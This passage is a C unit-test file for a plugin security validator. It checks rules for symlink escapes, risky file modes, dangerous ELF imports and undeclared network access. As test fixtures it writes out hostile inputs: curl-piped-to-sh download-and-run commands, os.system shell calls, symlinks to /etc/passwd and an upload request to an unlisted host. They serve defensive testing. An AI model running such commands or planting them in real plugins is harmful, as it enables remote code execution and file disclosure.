// SPDX-License-Identifier: MIT
/*
 * Plugin validation: every rule with a triggering and a non-triggering
 * example (the Python and shell ones as fixture files under
 * tests/data/validate/rules/<rule>/{bad,good}-*, the directory ones built
 * here), the example plugins clean with their permissions and flagged
 * without, the digest, the cache, the report model and the exposure score.
 * The last test checks that every rule of the catalog was seen both ways.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <gelf.h>
#include <libelf.h>
#include <libgen.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <cmocka.h>

#include "config/config.h"
#include "util/stamp.h"
#include "validate/validate_int.h"
#include "validate/pyrules_int.h"
#include "validate/validate.h"

static char data_dir[4096], examples_dir[4096];
static bool seen_bad[64], seen_good[64];

static int rule_index(const char *id)
{
	for (int i = 0; validate_rules[i].id; i++)
		if (!strcmp(validate_rules[i].id, id))
			return i;
	fail_msg("rule %s is not in the catalog", id);
	return -1;
}

static const struct validate_finding *find(const struct validate_report *r, const char *rule)
{
	for (size_t i = 0; i < r->n; i++)
		if (!strcmp(r->findings[i].rule->id, rule))
			return &r->findings[i];
	return NULL;
}

static void dump(const struct validate_report *r)
{
	validate_report_text(r, stderr);
}

/* The rule fires (at sev, unless sev < 0); recorded for the catalog check. */
static const struct validate_finding *expect(const struct validate_report *r, const char *rule, int sev)
{
	const struct validate_finding *f = NULL;

	for (size_t i = 0; i < r->n; i++)
		if (!strcmp(r->findings[i].rule->id, rule) &&
		    (sev < 0 || r->findings[i].severity == (enum severity)sev))
			f = &r->findings[i];
	if (!f) {
		dump(r);
		fail_msg("expected %s%s%s", rule, sev >= 0 ? " at " : "",
			 sev >= 0 ? severity_name((enum severity)sev) : "");
	}
	seen_bad[rule_index(rule)] = true;
	return f;
}

static void absent(const struct validate_report *r, const char *rule)
{
	if (find(r, rule)) {
		dump(r);
		fail_msg("unexpected %s", rule);
	}
	seen_good[rule_index(rule)] = true;
}

/* ---- tests/data ---- */

static int setup(void **state)
{
	char exe[4096];
	ssize_t n;

	if (getenv("RAGGED_TEST_DATA"))
		snprintf(data_dir, sizeof(data_dir), "%s", getenv("RAGGED_TEST_DATA"));
	else if (access("tests/data", F_OK) == 0)
		snprintf(data_dir, sizeof(data_dir), "tests/data");
	else if ((n = readlink("/proc/self/exe", exe, sizeof(exe) - 1)) > 0) {
		exe[n] = '\0';
		snprintf(data_dir, sizeof(data_dir), "%s/../../tests/data", dirname(exe));
	}
	snprintf(examples_dir, sizeof(examples_dir), "%s/../../docs/examples/plugins", data_dir);
	return access(data_dir, F_OK) == 0 && access(examples_dir, F_OK) == 0 ? 0 : -1;
}

static char *slurp(const char *path, size_t *len)
{
	FILE *f = fopen(path, "rb");
	char *buf = malloc(1 << 16);

	assert_non_null(f);
	assert_non_null(buf);
	*len = fread(buf, 1, (1 << 16) - 1, f);
	buf[*len] = '\0';
	fclose(f);
	return buf;
}

/* "# expect: high" in a fixture: the severity its finding must have; -1 if none. */
static int expected_sev(const char *src)
{
	const char *p = strstr(src, "# expect: ");
	char word[16];
	enum severity s;

	if (!p || sscanf(p + 10, "%15[a-z]", word) != 1)
		return -1;
	assert_int_equal(severity_parse(word, &s), 0);
	return (int)s;
}

/* Every fixture: bad-* triggers its directory's rule ("# expect: SEV" pins the severity), good-* does not. */
static void test_rule_fixtures(void **state)
{
	char dir[4200], path[4600];
	struct dirent **rules, **files;
	int nr, nfix = 0;

	snprintf(dir, sizeof(dir), "%s/validate/rules", data_dir);
	nr = scandir(dir, &rules, NULL, alphasort);
	assert_true(nr > 0);
	for (int i = 0; i < nr; i++) {
		int nf;

		if (rules[i]->d_name[0] == '.') {
			free(rules[i]);
			continue;
		}
		snprintf(path, sizeof(path), "%s/%s", dir, rules[i]->d_name);
		nf = scandir(path, &files, NULL, alphasort);
		assert_true(nf > 0);
		for (int k = 0; k < nf; k++) {
			const char *fn = files[k]->d_name;
			struct validate_report r;
			size_t len;
			char *src, name[600];
			bool bad = !strncmp(fn, "bad-", 4);

			if (fn[0] == '.') {
				free(files[k]);
				continue;
			}
			snprintf(path, sizeof(path), "%s/%s/%s", dir, rules[i]->d_name, fn);
			snprintf(name, sizeof(name), "%s/%s", rules[i]->d_name, fn);
			src = slurp(path, &len);
			if (strstr(fn, ".sh"))
				validate_shell_buffer(name, src, len, &r);
			else
				validate_python_buffer(name, src, len, &r);
			if (bad)
				expect(&r, rules[i]->d_name, expected_sev(src));
			else
				absent(&r, rules[i]->d_name);
			/* Findings point at the file and a real line. */
			for (size_t f = 0; f < r.n; f++) {
				assert_string_equal(r.findings[f].file, name);
				assert_true(r.findings[f].line >= 1);
			}
			validate_report_free(&r);
			free(src);
			free(files[k]);
			nfix++;
		}
		free(files);
		free(rules[i]);
	}
	free(rules);
	assert_true(nfix >= 100);
}

/* ---- plugin directories built for a test ---- */

static char tmp[64];

static int rm_cb(const char *p, const struct stat *st, int flag, struct FTW *ftw)
{
	return remove(p);
}

static int mk_tmp(void **state)
{
	snprintf(tmp, sizeof(tmp), "/tmp/ragged-validate-XXXXXX");
	assert_non_null(mkdtemp(tmp));
	chmod(tmp, 0755);
	return 0;
}

static int rm_tmp(void **state)
{
	nftw(tmp, rm_cb, 16, FTW_DEPTH | FTW_PHYS);
	return 0;
}

static void put(const char *rel, const char *text, mode_t mode)
{
	char path[512], *slash;
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", tmp, rel);
	for (slash = strchr(path + strlen(tmp) + 1, '/'); slash; slash = strchr(slash + 1, '/')) {
		*slash = '\0';
		mkdir(path, 0755);
		*slash = '/';
	}
	f = fopen(path, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
	assert_int_equal(chmod(path, mode), 0);
}

static void manifest(const char *entry, const char *perms, const char *extra)
{
	char buf[2048];

	snprintf(buf, sizeof(buf),
		 "[plugin]\nname = \"t\"\nversion = \"1.0.0\"\ntype = \"command\"\nentry = [%s]\n\n"
		 "[permissions]\nrequired = [%s]\n%s", entry, perms, extra ? extra : "");
	put("plugin.toml", buf, 0644);
}

static const char *osv_db(void)
{
	static char p[4200];

	snprintf(p, sizeof(p), "%s/osv", data_dir);
	return p;
}

/* Validate dir (tmp if NULL) with its plugin.toml; r must be freed. */
static void scan(const char *dir, const struct validate_opts *o, struct validate_report *r)
{
	struct manifest m;
	char path[4300], err[512];
	bool ok;

	snprintf(path, sizeof(path), "%s/plugin.toml", dir ? dir : tmp);
	ok = manifest_load(path, &m, err, sizeof(err)) == 0;
	if (!ok)
		fail_msg("manifest: %s", err);
	if (validate_dir(dir ? dir : tmp, &m, o, r, err, sizeof(err)) < 0)
		fail_msg("validate_dir: %s", err);
	manifest_free(&m);
}

static void plain(void)
{
	manifest("\"python3\", \"main.py\"", "", NULL);
	put("main.py", "print('hello')\n", 0644);
}

static void test_fs_symlinks(void **state)
{
	struct validate_report r;
	char p[512];

	plain();
	mkdir(strcat(strcpy(p, tmp), "/sub"), 0755);
	assert_int_equal(symlinkat("main.py", AT_FDCWD, strcat(strcpy(p, tmp), "/ok-link")), 0);
	assert_int_equal(symlinkat("../main.py", AT_FDCWD, strcat(strcpy(p, tmp), "/sub/up-ok")), 0);
	assert_int_equal(symlinkat("missing.txt", AT_FDCWD, strcat(strcpy(p, tmp), "/dangling")), 0);
	assert_int_equal(symlinkat("..", AT_FDCWD, strcat(strcpy(p, tmp), "/sub/parent")), 0);
	assert_int_equal(symlinkat("loop2", AT_FDCWD, strcat(strcpy(p, tmp), "/loop1")), 0);
	assert_int_equal(symlinkat("loop1", AT_FDCWD, strcat(strcpy(p, tmp), "/loop2")), 0);
	{
		char real[512], target[600];

		assert_non_null(realpath(tmp, real));
		snprintf(target, sizeof(target), "%s/main.py", real);
		assert_int_equal(symlinkat(target, AT_FDCWD, strcat(strcpy(p, tmp), "/abs-inside")), 0);
	}
	scan(NULL, NULL, &r);
	absent(&r, "fs-symlink-escape");
	validate_report_free(&r);

	assert_int_equal(symlinkat("/etc/passwd", AT_FDCWD, strcat(strcpy(p, tmp), "/abs")), 0);
	assert_int_equal(symlinkat("../../outside", AT_FDCWD, strcat(strcpy(p, tmp), "/sub/rel")), 0);
	/* Lexically inside, but sub/parent is itself "..": the kernel walk leaves the dir. */
	assert_int_equal(symlinkat("sub/parent/..", AT_FDCWD, strcat(strcpy(p, tmp), "/chain")), 0);
	scan(NULL, NULL, &r);
	expect(&r, "fs-symlink-escape", SEV_CRITICAL);
	{
		int n = 0;

		for (size_t i = 0; i < r.n; i++)
			if (!strcmp(r.findings[i].rule->id, "fs-symlink-escape")) {
				n++;
				assert_true(!strcmp(r.findings[i].file, "abs") ||
					    !strcmp(r.findings[i].file, "sub/rel") ||
					    !strcmp(r.findings[i].file, "chain"));
			}
		assert_int_equal(n, 3);
	}
	validate_report_free(&r);
}

static void test_fs_modes(void **state)
{
	struct validate_report r;
	char p[512];

	plain();
	put("data/ok.txt", "x", 0644);
	put("run.sh", "#!/bin/sh\necho hi\n", 0755);
	scan(NULL, NULL, &r);
	absent(&r, "fs-world-writable");
	absent(&r, "fs-setuid");
	absent(&r, "fs-special-file");
	absent(&r, "fs-hardlink");
	absent(&r, "fs-unreadable");
	assert_true(r.complete);
	validate_report_free(&r);

	put("shared.txt", "x", 0666);
	put("suid", "x", 04755);
	put("sgid", "x", 02755);
	chmod(strcat(strcpy(p, tmp), "/data"), 0777);
	assert_int_equal(mkfifo(strcat(strcpy(p, tmp), "/fifo"), 0644), 0);
	if (geteuid() == 0)	/* a device node needs CAP_MKNOD */
		assert_int_equal(mknod(strcat(strcpy(p, tmp), "/dev-null"), S_IFCHR | 0600, makedev(1, 3)), 0);
	{
		char q[512];

		strcat(strcpy(q, tmp), "/hard");
		assert_int_equal(link(strcat(strcpy(p, tmp), "/data/ok.txt"), q), 0);
	}
	scan(NULL, NULL, &r);
	assert_string_equal(expect(&r, "fs-world-writable", SEV_HIGH)->file, "shared.txt");
	assert_non_null(strstr(expect(&r, "fs-setuid", SEV_CRITICAL)->message, "set"));
	expect(&r, "fs-special-file", SEV_HIGH);
	{
		int special = 0;

		for (size_t i = 0; i < r.n; i++)
			special += !strcmp(r.findings[i].rule->id, "fs-special-file");
		assert_int_equal(special, geteuid() == 0 ? 2 : 1);
	}
	expect(&r, "fs-hardlink", SEV_MEDIUM);
	{
		int ww = 0, su = 0;

		for (size_t i = 0; i < r.n; i++) {
			ww += !strcmp(r.findings[i].rule->id, "fs-world-writable");
			su += !strcmp(r.findings[i].rule->id, "fs-setuid");
		}
		assert_int_equal(ww, 2);	/* the file and the directory */
		assert_int_equal(su, 2);
	}
	validate_report_free(&r);
}

/* Unreadable needs a non-root reader: as root, check it as nobody in a child. */
static void test_fs_unreadable(void **state)
{
	struct validate_report r;
	pid_t pid;
	int st;

	plain();
	put("secret.py", "x = 1\n", 0000);
	put("closed/x.py", "x = 1\n", 0644);
	{
		char p[512];

		chmod(strcat(strcpy(p, tmp), "/closed"), 0000);
	}
	if (geteuid() != 0) {
		scan(NULL, NULL, &r);
		expect(&r, "fs-unreadable", SEV_HIGH);
		validate_report_free(&r);
		return;
	}
	pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) {
		struct validate_report cr;
		char err[256];

		if (setgid(65534) < 0 || setuid(65534) < 0)
			_exit(3);
		if (validate_dir(tmp, NULL, NULL, &cr, err, sizeof(err)) < 0)
			_exit(4);
		st = 0;
		for (size_t i = 0; i < cr.n; i++)
			st += !strcmp(cr.findings[i].rule->id, "fs-unreadable");
		validate_report_free(&cr);
		exit(st == 2 ? 0 : 5);	/* exit, not _exit: coverage data is written at exit */
	}
	assert_int_equal(waitpid(pid, &st, 0), pid);
	assert_true(WIFEXITED(st));
	assert_int_equal(WEXITSTATUS(st), 0);
	seen_bad[rule_index("fs-unreadable")] = true;
}

static void test_fs_limits(void **state)
{
	struct validate_opts o = { .max_files = 4 };
	struct validate_report r;

	plain();
	put("a.py", "x = 1\n", 0644);
	put("b.py", "x = 1\n", 0644);
	put("c/d/e/f.py", "x = 1\n", 0644);
	scan(NULL, NULL, &r);
	absent(&r, "fs-limit");
	assert_true(r.complete);
	assert_int_equal(r.files, 5);
	validate_report_free(&r);

	scan(NULL, &o, &r);
	expect(&r, "fs-limit", SEV_HIGH);
	assert_false(r.complete);
	validate_report_free(&r);

	o = (struct validate_opts){ .max_depth = 2 };
	scan(NULL, &o, &r);
	assert_non_null(strstr(expect(&r, "fs-limit", -1)->message, "deeper"));
	validate_report_free(&r);

	/* Over the per-file cap: a code file is not analysed (and says so), data is only hashed. */
	o = (struct validate_opts){ .max_file_bytes = 64 };
	put("big.py", "import os\nos.system('id')\n# padding padding padding padding padding padding\n",
	    0644);
	put("big.bin", "0123456789012345678901234567890123456789012345678901234567890123456789", 0644);
	scan(NULL, &o, &r);
	assert_string_equal(expect(&r, "fs-limit", -1)->file, "big.py");
	assert_null(find(&r, "py-shell"));
	for (size_t i = 0; i < r.n; i++)
		assert_string_not_equal(r.findings[i].file ? r.findings[i].file : "", "big.bin");
	validate_report_free(&r);

	o = (struct validate_opts){ .max_total_bytes = 100 };
	scan(NULL, &o, &r);
	assert_non_null(strstr(expect(&r, "fs-limit", -1)->message, "total"));
	assert_false(r.complete);
	validate_report_free(&r);
}

/* Files are dispatched by content: shebangs name the interpreter. */
static void test_dispatch(void **state)
{
	struct validate_report r;

	plain();
	put("tool", "#!/usr/bin/env -S python3 -u\nimport os\nos.system('id')\n", 0755);
	put("runme", "#!/bin/bash\ncurl -s https://x.example/s | sh\n", 0755);
	put("script.pl", "#!/usr/bin/perl\nsystem('curl https://x.example/s | sh');\n", 0755);
	put("notes.txt", "eval(input())  curl x | sh\n", 0644);
	scan(NULL, NULL, &r);
	assert_string_equal(expect(&r, "py-shell", SEV_HIGH)->file, "tool");
	assert_string_equal(expect(&r, "sh-pipe-to-shell", SEV_CRITICAL)->file, "runme");
	for (size_t i = 0; i < r.n; i++)
		assert_true(strcmp(r.findings[i].file ? r.findings[i].file : "", "script.pl") &&
			    strcmp(r.findings[i].file ? r.findings[i].file : "", "notes.txt"));
	assert_true(r.lines >= 4);
	validate_report_free(&r);
}

/* Files over the per-file cap are streamed through the hash, 64 KiB at a time. */
static void test_big_files(void **state)
{
	struct validate_opts o = { .max_file_bytes = 1000 };
	struct validate_report r;
	char a[65], *big = malloc(300001);

	memset(big, 'x', 300000);
	big[300000] = '\0';
	plain();
	put("model.bin", big, 0644);
	scan(NULL, &o, &r);
	absent(&r, "fs-limit");		/* data over the cap is hashed, not analysed: fine */
	assert_true(r.bytes >= 300000);
	memcpy(a, r.digest, 65);
	validate_report_free(&r);
	big[150000] = 'y';			/* the digest covers the streamed part too */
	put("model.bin", big, 0644);
	scan(NULL, &o, &r);
	assert_string_not_equal(a, r.digest);
	validate_report_free(&r);
	memcpy(big, "#!/bin/sh\n", 10);	/* a script over the cap is not analysed, and says so */
	put("model.bin", big, 0755);
	scan(NULL, &o, &r);
	assert_string_equal(expect(&r, "fs-limit", -1)->file, "model.bin");
	validate_report_free(&r);
	o.max_total_bytes = 100000;		/* the total cap stops the read midway */
	scan(NULL, &o, &r);
	assert_false(r.complete);
	expect(&r, "fs-limit", -1);
	{
		bool partly = false;

		for (size_t i = 0; i < r.n; i++)
			partly |= strstr(r.findings[i].message, "partly read") != NULL;
		assert_true(partly);
	}
	validate_report_free(&r);
	free(big);
}

static void test_bytecode(void **state)
{
	struct validate_report r;

	plain();
	scan(NULL, NULL, &r);
	absent(&r, "py-bytecode");
	validate_report_free(&r);
	put("__pycache__/main.cpython-311.pyc", "\xa7\x0d\x0d\x0a", 0644);
	scan(NULL, NULL, &r);
	assert_string_equal(expect(&r, "py-bytecode", SEV_HIGH)->file, "__pycache__/main.cpython-311.pyc");
	validate_report_free(&r);
}

static void test_entry(void **state)
{
	struct validate_report r;

	plain();
	put("run.sh", "#!/bin/sh\necho ok\n", 0755);
	put("pkg/__main__.py", "print(1)\n", 0644);
	put("emptydir/x.txt", "x", 0644);
	static const char *const good[] = {
		"\"python3\", \"main.py\"", "\"/usr/bin/python3\", \"-u\", \"main.py\"",
		"\"./run.sh\"", "\"sh\", \"run.sh\"", "\"python3\", \"-m\", \"pkg\"",
		"\"python3\", \"-W\", \"ignore\", \"main.py\"", "\"python3\", \"pkg\"",
		"\"bash\", \"-o\", \"errexit\", \"run.sh\"",
	};
	for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++) {
		manifest(good[i], "", NULL);
		scan(NULL, NULL, &r);
		absent(&r, "entry-missing");
		absent(&r, "entry-outside");
		absent(&r, "entry-not-executable");
		absent(&r, "entry-inline-code");
		validate_report_free(&r);
	}
	static const struct { const char *entry, *rule; int sev; } bad[] = {
		{ "\"python3\", \"nope.py\"", "entry-missing", SEV_CRITICAL },
		{ "\"./nope\"", "entry-missing", SEV_CRITICAL },
		{ "\"python3\", \"emptydir\"", "entry-missing", SEV_CRITICAL },
		{ "\"no-such-program-ragged\", \"main.py\"", "entry-missing", SEV_CRITICAL },
		{ "\"python3\", \"../main.py\"", "entry-outside", SEV_CRITICAL },
		{ "\"python3\", \"/etc/x.py\"", "entry-outside", SEV_CRITICAL },
		{ "\"/opt/tool/run\"", "entry-outside", SEV_CRITICAL },
		{ "\"./sub/../../x\"", "entry-outside", SEV_CRITICAL },
		{ "\"python3\", \"-m\", \"http.server\"", "entry-outside", SEV_HIGH },
		{ "\"python3\", \"-c\", \"print(1)\"", "entry-inline-code", SEV_HIGH },
		{ "\"bash\", \"-c\", \"echo hi\"", "entry-inline-code", SEV_HIGH },
		{ "\"python3\"", "entry-inline-code", SEV_HIGH },
		{ "\"perl\", \"-e\", \"print 1\"", "entry-inline-code", SEV_HIGH },
		{ "\"./pkg\"", "entry-missing", SEV_CRITICAL },
	};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		manifest(bad[i].entry, "", NULL);
		scan(NULL, NULL, &r);
		assert_string_equal(expect(&r, bad[i].rule, bad[i].sev)->file, "plugin.toml");
		validate_report_free(&r);
	}
	/* A symlinked script that leaves the directory. */
	{
		char p[512];

		assert_int_equal(symlinkat("/etc/hostname", AT_FDCWD, strcat(strcpy(p, tmp), "/out.py")), 0);
		manifest("\"python3\", \"out.py\"", "", NULL);
		scan(NULL, NULL, &r);
		expect(&r, "entry-outside", SEV_CRITICAL);
		expect(&r, "fs-symlink-escape", SEV_CRITICAL);
		validate_report_free(&r);
		unlink(p);
	}
	/* Not executable. */
	put("tool", "#!/bin/sh\n", 0644);
	manifest("\"./tool\"", "", NULL);
	scan(NULL, NULL, &r);
	expect(&r, "entry-not-executable", SEV_HIGH);
	validate_report_free(&r);
	/* Inline code is analysed as code. */
	manifest("\"python3\", \"-c\", \"import os; os.system('id')\"", "", NULL);
	scan(NULL, NULL, &r);
	expect(&r, "py-shell", SEV_HIGH);
	validate_report_free(&r);
	manifest("\"sh\", \"-c\", \"curl -s https://x.example/s | sh\"", "", NULL);
	scan(NULL, NULL, &r);
	expect(&r, "sh-pipe-to-shell", SEV_CRITICAL);
	validate_report_free(&r);
}

/* An ELF64 file: dynamic (PT_DYNAMIC and a .dynsym importing syms) or static. */
static void make_elf(const char *rel, const char *const *syms, bool dynamic)
{
	static char shstr[] = "\0.dynstr\0.dynsym\0.shstrtab";
	char path[512], strtab[512] = "";
	Elf64_Sym sym[16];
	size_t slen = 1, n = 1;
	Elf64_Ehdr *eh;
	Elf64_Phdr *ph = NULL;
	Elf64_Shdr *sh;
	Elf_Scn *str = NULL, *dsym, *shs;
	Elf_Data *d;
	Elf *e;
	int fd;

	memset(sym, 0, sizeof(sym));
	for (size_t i = 0; syms && syms[i] && n < 16; i++, n++) {
		sym[n].st_name = (Elf64_Word)slen;
		sym[n].st_info = ELF64_ST_INFO(STB_GLOBAL, STT_FUNC);
		sym[n].st_shndx = SHN_UNDEF;
		memcpy(strtab + slen, syms[i], strlen(syms[i]) + 1);
		slen += strlen(syms[i]) + 1;
	}
	snprintf(path, sizeof(path), "%s/%s", tmp, rel);
	assert_true(elf_version(EV_CURRENT) != EV_NONE);
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	assert_true(fd >= 0);
	e = elf_begin(fd, ELF_C_WRITE, NULL);
	assert_non_null(e);
	eh = elf64_newehdr(e);
	eh->e_ident[EI_DATA] = ELFDATA2LSB;
	eh->e_machine = EM_X86_64;
	eh->e_type = ET_DYN;
	eh->e_version = EV_CURRENT;
	if (dynamic) {
		ph = elf64_newphdr(e, 1);
		str = elf_newscn(e);
		d = elf_newdata(str);
		d->d_buf = strtab, d->d_size = slen, d->d_type = ELF_T_BYTE, d->d_align = 1;
		sh = elf64_getshdr(str);
		sh->sh_name = 1, sh->sh_type = SHT_STRTAB, sh->sh_flags = SHF_ALLOC;
		dsym = elf_newscn(e);
		d = elf_newdata(dsym);
		d->d_buf = sym, d->d_size = n * sizeof(sym[0]), d->d_type = ELF_T_SYM, d->d_align = 8;
		sh = elf64_getshdr(dsym);
		sh->sh_name = 9, sh->sh_type = SHT_DYNSYM, sh->sh_link = (Elf64_Word)elf_ndxscn(str);
		sh->sh_entsize = sizeof(sym[0]), sh->sh_info = 1, sh->sh_flags = SHF_ALLOC;
	}
	shs = elf_newscn(e);
	d = elf_newdata(shs);
	d->d_buf = shstr, d->d_size = sizeof(shstr), d->d_type = ELF_T_BYTE, d->d_align = 1;
	sh = elf64_getshdr(shs);
	sh->sh_name = 17, sh->sh_type = SHT_STRTAB;
	eh->e_shstrndx = (Elf64_Half)elf_ndxscn(shs);
	assert_true(elf_update(e, ELF_C_NULL) >= 0);
	if (ph) {
		ph->p_type = PT_DYNAMIC;
		elf_flagphdr(e, ELF_C_SET, ELF_F_DIRTY);
	}
	assert_true(elf_update(e, ELF_C_WRITE) >= 0);
	elf_end(e);
	close(fd);
}

static void test_elf(void **state)
{
	static const char *const clean[] = { "puts", "malloc", "read", NULL };
	static const char *const escape[] = { "puts", "ptrace", "init_module", NULL };
	static const char *const ns[] = { "unshare", "setns", "syscall", NULL };
	struct validate_report r;

	plain();
	put("lib.so", "not an ELF file at all", 0644);
	scan(NULL, NULL, &r);
	absent(&r, "elf-binary");
	validate_report_free(&r);
	make_elf("tool", clean, true);
	scan(NULL, NULL, &r);
	absent(&r, "elf-dangerous-import");
	absent(&r, "elf-static");
	absent(&r, "elf-malformed");
	assert_string_equal(expect(&r, "elf-binary", SEV_INFO)->file, "tool");
	assert_true(r.uses & VUSE_NATIVE);
	validate_report_free(&r);

	make_elf("escape", escape, true);
	make_elf("ns.so", ns, true);
	make_elf("static", NULL, false);
	put("broken", "\177ELF\003\003\001garbage", 0755);
	scan(NULL, NULL, &r);
	{
		int crit = 0, high = 0, med = 0;

		for (size_t i = 0; i < r.n; i++) {
			const struct validate_finding *f = &r.findings[i];

			if (strcmp(f->rule->id, "elf-dangerous-import"))
				continue;
			crit += f->severity == SEV_CRITICAL;
			high += f->severity == SEV_HIGH;
			med += f->severity == SEV_MEDIUM;
			assert_true(!strcmp(f->file, "escape") || !strcmp(f->file, "ns.so"));
		}
		assert_int_equal(crit, 2);	/* ptrace, init_module */
		assert_int_equal(high, 2);	/* unshare, setns */
		assert_int_equal(med, 1);	/* syscall */
	}
	expect(&r, "elf-dangerous-import", SEV_CRITICAL);
	assert_string_equal(expect(&r, "elf-static", SEV_MEDIUM)->file, "static");
	assert_string_equal(expect(&r, "elf-malformed", SEV_HIGH)->file, "broken");
	validate_report_free(&r);
}

/* ---- the permission cross-check ---- */

static void code(const char *src)
{
	put("main.py", src, 0644);
}

static void test_perm_network(void **state)
{
	struct validate_report r;

	/* A remote URL with only local-service permissions. */
	manifest("\"python3\", \"main.py\"", "\"system:embedding\"", NULL);
	code("import urllib.request\nurllib.request.urlopen('https://api.example.com/v1/embed')\n"
	     "urllib.request.urlopen('http://localhost:11434/api/embeddings')\n");
	scan(NULL, NULL, &r);
	assert_int_equal(expect(&r, "perm-undeclared-network", SEV_HIGH)->line, 2);
	validate_report_free(&r);
	/* Raw sockets count as network use; loopback services need their permission. */
	manifest("\"python3\", \"main.py\"", "\"system:embedding\"", NULL);
	code("import socket\nsocket.create_connection(('127.0.0.1', 8001))\nURL = 'http://127.0.0.1:8001/api'\n"
	     "OTHER = 'http://127.0.0.1:5432/'\n");
	scan(NULL, NULL, &r);
	assert_non_null(strstr(expect(&r, "perm-undeclared-network", SEV_HIGH)->message, "vectorstore"));
	validate_report_free(&r);
	/* With network:api only: the local services and other loopback ports are still not granted. */
	manifest("\"python3\", \"main.py\"", "\"network:api\"",
		 "\n[network]\nendpoints = [\"api.example.com:443\"]\n");
	code("import requests\nrequests.get('http://localhost:11434/api/tags')\n"
	     "requests.get('http://[::1]:8001/api')\nrequests.get('http://127.0.0.1:5432/')\n"
	     "A = 'https://user@api.example.com/x'\nB = 'http://host:99999/'\nC = 'http://[::1'\n"
	     "D = 'http://{host}:8080/'\nE = 'https://%s/'\n");
	scan(NULL, NULL, &r);
	{
		int high = 0, med = 0;

		for (size_t i = 0; i < r.n; i++) {
			if (strcmp(r.findings[i].rule->id, "perm-undeclared-network"))
				continue;
			high += r.findings[i].severity == SEV_HIGH;
			med += r.findings[i].severity == SEV_MEDIUM;
		}
		assert_int_equal(high, 2);
		assert_int_equal(med, 1);
		absent(&r, "perm-endpoint-undeclared");
	}
	validate_report_free(&r);
	manifest("\"python3\", \"main.py\"", "\"network:none\"", NULL);
	code("URL = 'http://127.0.0.1:5432/'\nimport requests\n");
	scan(NULL, NULL, &r);
	expect(&r, "perm-undeclared-network", SEV_HIGH);
	validate_report_free(&r);
	/* A URL in a plugin that never connects is text, not a use. */
	manifest("\"python3\", \"main.py\"", "", NULL);
	code("HELP = 'see https://docs.example.com/plugin'\nprint(HELP)\n");
	scan(NULL, NULL, &r);
	absent(&r, "perm-undeclared-network");
	validate_report_free(&r);
	/* UNIX sockets (the consent channel) are not the network; TCP ones are. */
	code("import socket, os\nch = socket.socket(fileno=int(os.environ['RAGGED_CONSENT_FD']))\n"
	     "u = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)\n");
	scan(NULL, NULL, &r);
	absent(&r, "perm-undeclared-network");
	validate_report_free(&r);
	code("import socket\ns = socket.socket()\ns.connect((host, 443))\n");
	scan(NULL, NULL, &r);
	assert_int_equal(expect(&r, "perm-undeclared-network", SEV_HIGH)->line, 2);
	validate_report_free(&r);
	/* Shell scripts and binaries count too. */
	manifest("\"sh\", \"run.sh\"", "", NULL);
	code("x = 1\n");
	put("run.sh", "#!/bin/sh\ncurl -s https://x.example/data -o \"$TMPDIR/d\"\n", 0755);
	scan(NULL, NULL, &r);
	assert_string_equal(expect(&r, "perm-undeclared-network", -1)->file, "run.sh");
	validate_report_free(&r);
}

static void test_perm_endpoints(void **state)
{
	struct validate_report r;

	manifest("\"python3\", \"main.py\"", "\"network:api\"",
		 "\n[network]\nendpoints = [\"api.example.com:443\", \"192.0.2.0/24:8443\"]\n");
	code("import requests\nrequests.get('https://API.example.com/v1/x')\n"
	     "requests.get('http://192.0.2.7:8443/y')\nrequests.get(f'https://api.example.com:{port}/z')\n");
	scan(NULL, NULL, &r);
	absent(&r, "perm-endpoint-undeclared");
	absent(&r, "perm-undeclared-network");
	absent(&r, "perm-unused");
	absent(&r, "perm-endpoint-local");
	validate_report_free(&r);
	code("import requests\nrequests.get('https://collect.example.net/upload')\n"
	     "requests.get('http://192.0.3.7:8443/y')\nrequests.get('https://api.example.com:8443/')\n");
	scan(NULL, NULL, &r);
	{
		int n = 0;

		for (size_t i = 0; i < r.n; i++)
			n += !strcmp(r.findings[i].rule->id, "perm-endpoint-undeclared");
		assert_int_equal(n, 3);
	}
	expect(&r, "perm-endpoint-undeclared", SEV_MEDIUM);
	validate_report_free(&r);
	/* Endpoints on this host, its link or a private network: one high finding each. */
	manifest("\"python3\", \"main.py\"", "\"network:api\"",
		 "\n[network]\nendpoints = [\"127.0.0.1:8080\", \"api.example.com:443\",\n"
		 "  \"169.254.169.254:80\", \"10.0.0.0/8:443\", \"[::]:80\", \"localhost:9000\",\n"
		 "  \"0.0.0.0/0:8443\", \"192.0.2.0/24:8443\"]\n");
	code("import requests\nrequests.get('https://api.example.com/v1/x')\n");
	scan(NULL, NULL, &r);
	{
		static const char *const want[] = {
			"127.0.0.1:8080 reaches loopback", "169.254.169.254:80 reaches link-local",
			"10.0.0.0/8:443 reaches a private network", "[::]:80 reaches the unspecified",
			"localhost:9000 reaches loopback", "0.0.0.0/0:8443 reaches a private network",
		};
		int n = 0;

		for (size_t i = 0; i < r.n; i++) {
			if (strcmp(r.findings[i].rule->id, "perm-endpoint-local"))
				continue;
			n++;
			assert_int_equal(r.findings[i].severity, SEV_HIGH);
			assert_null(strstr(r.findings[i].message, "example.com"));
			assert_null(strstr(r.findings[i].message, "192.0.2.0"));
		}
		assert_int_equal(n, 6);
		for (size_t w = 0; w < sizeof(want) / sizeof(want[0]); w++) {
			bool seen = false;

			for (size_t i = 0; i < r.n; i++)
				seen |= strstr(r.findings[i].message, want[w]) != NULL;
			if (!seen)
				fail_msg("no finding \"%s\"", want[w]);
		}
		/* Each on the manifest line that names it. */
		for (size_t i = 0; i < r.n; i++) {
			if (strstr(r.findings[i].message, "127.0.0.1:8080"))
				assert_int_equal(r.findings[i].line, 11);
			if (strstr(r.findings[i].message, "0.0.0.0/0:8443"))
				assert_int_equal(r.findings[i].line, 13);
		}
		expect(&r, "perm-endpoint-local", SEV_HIGH);
	}
	validate_report_free(&r);
	/* network:download reaches any host: no endpoint list to check. */
